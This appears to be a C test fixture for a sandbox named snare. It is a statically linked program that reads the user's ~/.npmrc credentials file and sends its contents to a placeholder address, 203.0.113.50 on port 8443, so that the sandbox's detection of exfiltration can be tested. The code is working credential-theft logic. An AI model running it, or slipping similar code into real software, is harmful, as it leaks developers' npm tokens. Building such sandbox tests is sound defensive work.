/* Test fixture, run only inside snare's sandbox: a statically linked
 * program (no libc of the system, no dynamic loader) that reads the fake
 * ~/.npmrc and sends it to a fake address. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	char path[512], buf[4096];
	snprintf(path, sizeof(path), "%s/.npmrc", getenv("HOME") ? getenv("HOME") : "/");
	int fd = open(path, O_RDONLY);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf)) : 0;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(8443)};
	inet_pton(AF_INET, "203.0.113.50", &a.sin_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0 && n > 0)
		write(s, buf, (size_t)n);
	close(s);
	puts("static done");
	return 0;
}
